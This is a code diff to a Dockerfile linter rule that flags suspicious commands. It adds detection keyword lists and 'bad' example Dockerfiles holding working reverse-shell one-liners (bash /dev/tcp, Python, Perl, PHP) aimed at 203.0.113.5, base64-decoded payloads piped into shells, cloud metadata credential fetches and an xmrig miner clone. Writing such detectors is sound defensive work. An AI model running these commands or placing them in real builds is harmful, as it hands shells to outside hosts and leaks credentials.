@@ -1,5 +1,7 @@
-import { interpreterOf, readsProgram } from "../../dockerfile/commands/consumers.ts";
+import { isDecodedAndRun, runsDecoded } from "../../dockerfile/commands/decodedScripts.ts";
+import { givesShell } from "../../dockerfile/commands/reverseShells.ts";
 import { commandsOf } from "../../dockerfile/commands/scripts.ts";
+import { remoteSourcesOf } from "../../dockerfile/files/remoteSources.ts";
 import { fileSays } from "../../dockerfile/model/fileText.ts";
 import type { Step } from "../../dockerfile/model/model.ts";
 import { stepText } from "../../dockerfile/model/stepText.ts";
@@ -7,6 +9,7 @@ import { POSIX_SHELLS } from "../../knowledge/wrappers.ts";
 import { sourceSpan } from "../../mappedText.ts";
 import type { ShellCommand } from "../../shell/model.ts";
 import { comparable } from "../../shell/words.ts";
+import type { Span } from "../../text.ts";
 import { defineRule, type Report } from "../rule.ts";
 
 const MINERS =
@@ -37,6 +40,7 @@ export const suspiciousCommand = defineRule({
 	onlyWith: {
 		texts: [
 			...["/dev/tcp/", "/dev/udp/", "ncat", "netcat", "nc.traditional", "socat", "nc ", "nc\t", "nc\\", 'nc"', "nc'"],
+			...["dup2", "fdopen", "fsockopen", "tcpsocket", "open(stdin"],
 			...["base64", "xxd", "b64decode", "unhexlify", "openssl", "powershell", "pwsh"],
 			...["xmrig", "minerd", "cpuminer", "ethminer", "nbminer", "xmr-stak", "stratum+"],
 			...["chattr", "histfile", "history", "/proc/sys", "169.254.169.254", "metadata.google.internal", "100.100.100.200"],
@@ -65,6 +69,22 @@ export const suspiciousCommand = defineRule({
 			bad: 'FROM debian:12\nRUN echo ZWNobyBoaQo= | «base64» -d | sh && «eval» "$(echo ZWNobyBoaQo= | base64 --decode)"\nRUN «python3» -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))" && echo 6563686f | «xxd» -r -p | bash -s\n',
 		},
 		{
+			caption: "A connection that a shell reads",
+			bad: 'FROM debian:12\nRUN exec 5<>/dev/tcp/203.0.113.5/80; «sh» <&5 >&5 2>&5\nRUN «python3» -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",80));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'\nRUN «perl» -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i")\' && «php» -r \'$s=fsockopen("203.0.113.5",80);exec("/bin/sh -i <&3 >&3");\'\n',
+		},
+		{
+			caption: "Decoded into a shell, without a pipe to it or with something in between",
+			bad: 'FROM debian:12\nSHELL ["/bin/bash", "-c"]\nRUN «bash» <(echo aGk= | base64 -d) && «.» <(echo aGk= | base64 -d) && «bash» <<< $(echo aGk= | base64 -d)\nRUN «$(echo aGk= | rev | base64 -d)»\nRUN echo aGk= | «base64» -d | env -i sh && echo aGk= | «base64» -d | xargs -0 sh -c && echo aGk= | busybox «base64» -d | busybox sh\n',
+		},
+		{
+			caption: "Settings and credentials in other ways",
+			bad: "FROM debian:12\nADD «http://169.254.169.254/latest/user-data» /x\nRUN «sed» -i s/0/1/ /proc/sys/net/ipv4/ip_forward && echo 1 | «dd» of=/proc/sys/kernel/panic\n",
+		},
+		{
+			caption: "Connections that nobody runs, decoded data",
+			good: 'FROM debian:12\nSHELL ["/bin/bash", "-c"]\nRUN diff a <(echo aGk= | base64 -d) && cat <<< $(echo aGk= | base64 -d) && bash run.sh <(echo aGk= | base64 -d) && echo aGk= | base64 -d | xargs -n1 echo && sed s/0/1/ /proc/sys/kernel/panic\nRUN python3 -c \'import socket;s=socket.socket();s.connect(("db",5432))\' && php -r \'exit(fsockopen("db",5432)?0:1);\'\nHEALTHCHECK CMD exec 3<>/dev/tcp/localhost/80 && echo GET / >&3 && grep ok <&3\n',
+		},
+		{
 			caption: "Miners, traces, settings, credentials",
 			bad: 'FROM debian:12\nRUN git clone «https://github.com/xmrig/xmrig.git»\nRUN «chattr» +i /etc/passwd && «unset» HISTFILE && «history» -cw && echo 1 «>» /proc/sys/net/ipv4/ip_forward && echo 1 | «tee» /proc/sys/net/ipv4/ip_forward\nRUN curl -s «http://169.254.169.254/latest/meta-data/iam/security-credentials/» > /c\nENTRYPOINT ["/x", «"stratum+tcp://pool.example.com:3333"»]\n',
 		},
@@ -87,6 +107,7 @@ export const suspiciousCommand = defineRule({
 		const namesPowershell = fileSays(file, POWERSHELL);
 		for (const stage of file.stages) {
 			for (const step of stage.steps) {
+				if (step.keyword === "ADD") reports.push(...inSources(step));
 				if (!RUNS.has(step.keyword)) continue;
 				const mayMine = namesMiners && MINERS.test(stepText(step));
 				for (const command of commandsOf(step)) {
@@ -101,53 +122,75 @@ export const suspiciousCommand = defineRule({
 	},
 });
 
-/** Without shells and Python. */
+/** Without shells and interpreters. */
 const PROGRAMS: ReadonlySet<string> = new Set(
-	"nc ncat netcat nc.traditional socat tee base64 openssl xxd eval chattr unset history ln curl wget".split(" "),
+	"nc ncat netcat nc.traditional socat tee sed dd base64 openssl xxd eval . source chattr unset history ln curl wget".split(" "),
 );
+const INTERPRETER = /^(?:python|perl|ruby|php)/;
 
 /** Whether a command can be anything that {@link inCommand} reports. */
-function isLookedAt({ program, redirects }: ShellCommand): boolean {
-	if (program === undefined) return false;
-	return redirects.length > 0 || PROGRAMS.has(program) || POSIX_SHELLS.has(program) || program.startsWith("python");
+function isLookedAt({ program, name, redirects }: ShellCommand): boolean {
+	if (program === undefined) return name?.parts[0]?.kind === "command";
+	return redirects.length > 0 || PROGRAMS.has(program) || POSIX_SHELLS.has(program) || INTERPRETER.test(program);
 }
 
 function inCommand(step: Step, command: ShellCommand): readonly Report[] {
 	const { program, name } = command;
-	if (program === undefined || name === undefined) return [];
-	const texts = command.args.map(comparable);
+	if (name === undefined) return [];
 	const reports: Report[] = [];
-	if (givesShell(command, texts))
+	if (runsDecoded(command))
+		reports.push({
+			span: name.span,
+			message: `${program ?? "The shell"} runs a text that is decoded on the way`,
+			subCode: "decode-and-execute",
+		});
+	if (program === undefined) return reports;
+	const texts = command.args.map(comparable);
+	if (givesShell(step, command, texts))
 		reports.push({ span: name.span, message: `${program} hands a shell to another machine`, subCode: "reverse-shell" });
-	if (decodes(command, texts) && isRunBehind(command))
+	if (isDecodedAndRun(step, command, texts))
 		reports.push({ span: name.span, message: `What ${program} decodes is run at once`, subCode: "decode-and-execute" });
-	if (runsDecoded(program, command))
-		reports.push({ span: name.span, message: `${program} runs a text that is decoded on the way`, subCode: "decode-and-execute" });
 	const wiped = wipesTraces(program, texts);
 	if (wiped !== undefined) reports.push({ span: name.span, message: wiped, severity: "warning", subCode: "traces" });
-	const kernel =
-		step.keyword === "RUN"
-			? command.redirects.find(({ operator, target }) => operator.startsWith(">") && /^\/proc\/sys\//.test(target?.value ?? ""))
-			: undefined;
-	const file = step.keyword === "RUN" && program === "tee" ? command.args.find((word) => word.value?.startsWith("/proc/sys/")) : undefined;
-	if (kernel !== undefined || file !== undefined)
+	const kernel = step.keyword === "RUN" ? kernelPlace(command, texts) : undefined;
+	if (kernel !== undefined)
 		reports.push({
-			span: kernel === undefined ? name.span : { start: kernel.span.start, end: kernel.span.start + kernel.operator.length },
+			span: kernel,
 			message: "A setting of the build machine's kernel is written",
 			severity: "warning",
 			subCode: "kernel",
 		});
 	if (step.keyword === "RUN" && (program === "curl" || program === "wget")) {
 		const word = command.args.find((candidate) => METADATA.test(comparable(candidate)));
-		if (word !== undefined)
-			reports.push({
-				span: word.span,
-				message: "The build asks the cloud's metadata service, which hands out credentials",
-				severity: "warning",
-				subCode: "metadata",
-			});
+		if (word !== undefined) reports.push(metadataReport(word.span));
 	}
 	return reports;
+}
+
+/** What writes a setting of the kernel: a redirection, or the name of a program that writes the file that it is given. */
+function kernelPlace({ program, name, args, redirects }: ShellCommand, texts: readonly string[]): Span | undefined {
+	const redirect = redirects.find(({ operator, target }) => operator.startsWith(">") && target?.value?.startsWith("/proc/sys/"));
+	if (redirect !== undefined) return { start: redirect.span.start, end: redirect.span.start + redirect.operator.length };
+	const given = args.some(({ value }) => value?.startsWith("/proc/sys/"));
+	const writes =
+		(program === "tee" && given) ||
+		(program === "sed" && given && texts.some((text) => /^(?:-[a-zA-Z]*i|--in-place)/.test(text))) ||
+		(program === "dd" && texts.some((text) => text.startsWith("of=/proc/sys/")));
+	return writes ? name?.span : undefined;
+}
+
+/** `ADD http://169.254.169.254/…`. */
+function inSources(step: Step): readonly Report[] {
+	return remoteSourcesOf(step).flatMap(({ text, resolved, span }) => (METADATA.test(resolved ?? text) ? [metadataReport(span)] : []));
+}
+
+function metadataReport(span: Span): Report {
+	return {
+		span,
+		message: "The build asks the cloud's metadata service, which hands out credentials",
+		severity: "warning",
+		subCode: "metadata",
+	};
 }
 
 function mining({ program, name, args }: ShellCommand): readonly Report[] {
@@ -158,60 +201,6 @@ function mining({ program, name, args }: ShellCommand): readonly Report[] {
 		return [{ span: word.span, message: `${miner[1]} mines cryptocurrency`, severity: "warning", subCode: "miner" }];
 	}
 	return [];
-}
-
-function givesShell(command: ShellCommand, texts: readonly string[]): boolean {
-	const { program = "" } = command;
-	const connected = command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target === undefined ? "" : comparable(target)));
-	if (POSIX_SHELLS.has(program))
-		return (
-			(connected || isPipedOut(command)) && texts.some((text) => /^-[a-z]*i/.test(text)) && !texts.some((text) => /^-[a-z]*c$/.test(text))
-		);
-	if (program === "socat")
-		return (
-			texts.some((text) => /^(?:tcp|udp|openssl)/i.test(text)) &&
-			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh(?:\s+-[a-z]+)*["']?(?:,.*)?$/i.test(text))
-		);
-	if (!NETCATS.test(program)) return false;
-	const at = texts.findIndex((text) => /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec$/.test(text));
-	return at !== -1 && /(?:^|\/)(?:ba|da|a|z)?sh\b|cmd(?:\.exe)?$|powershell/.test(texts[at + 1] ?? "");
-}
-
-const NETCATS = /^(?:nc|ncat|netcat|nc\.traditional)$/;
-
-/** `sh -i 2>&1 | nc HOST PORT`. */
-function isPipedOut(command: ShellCommand): boolean {
-	const members = command.pipeline?.commands ?? [];
-	return NETCATS.test(members[members.indexOf(command) + 1]?.program ?? "");
-}
-
-function decodes({ program }: ShellCommand, texts: readonly string[]): boolean {
-	if (program === "base64") return texts.some((text) => /^-[a-z]*[dD]|^--decode$/.test(text));
-	if (program === "openssl") return texts.some((text) => /^-?base64$|^-a$/.test(text)) && texts.includes("-d");
-	return program === "xxd" && texts.some((text) => /^-[a-z]*r/.test(text));
-}
-
-/** Whether an interpreter further down the pipe reads a program. */
-function isRunBehind(command: ShellCommand): boolean {
-	const outer = command.wrapper?.pipeline === undefined ? command : command.wrapper;
-	const members = outer.pipeline?.commands ?? [];
-	return members.slice(members.indexOf(outer) + 1).some((member) => {
-		const program = member.program === "sudo" ? member.args.find((word) => !word.text.startsWith("-"))?.value : member.program;
-		const interpreter = program === undefined ? undefined : interpreterOf(program);
-		return interpreter !== undefined && (member.program === "sudo" || readsProgram(member, interpreter));
-	});
-}
-
-/** `eval "$(… base64 -d)"`, `sh -c "$(… base64 -d)"`, `python -c "exec(b64decode(…))"`. */
-function runsDecoded(program: string, command: ShellCommand): boolean {
-	const { args } = command;
-	const substituted = (text: string): boolean =>
-		/^"?(?:\$\(|`)[^|]{1,2000}\|\s{0,20}(?:base64\s{1,5}(?:-d|-D|--decode)|xxd\s{1,5}-r)/.test(text);
-	if (program === "eval") return args.some((word) => substituted(word.text));
-	const script = args[args.findIndex((word) => /^-[a-z]*c$/.test(word.text)) + 1];
-	if (script === undefined || !args.some((word) => /^-[a-z]*c$/.test(word.text))) return false;
-	if (POSIX_SHELLS.has(program)) return substituted(script.text);
-	return /^python[0-9.]*$/.test(program) && /\bexec\s{0,5}\(/.test(script.text) && /b64decode|unhexlify/.test(script.text);
 }
 
 function wipesTraces(program: string, texts: readonly string[]): string | undefined {
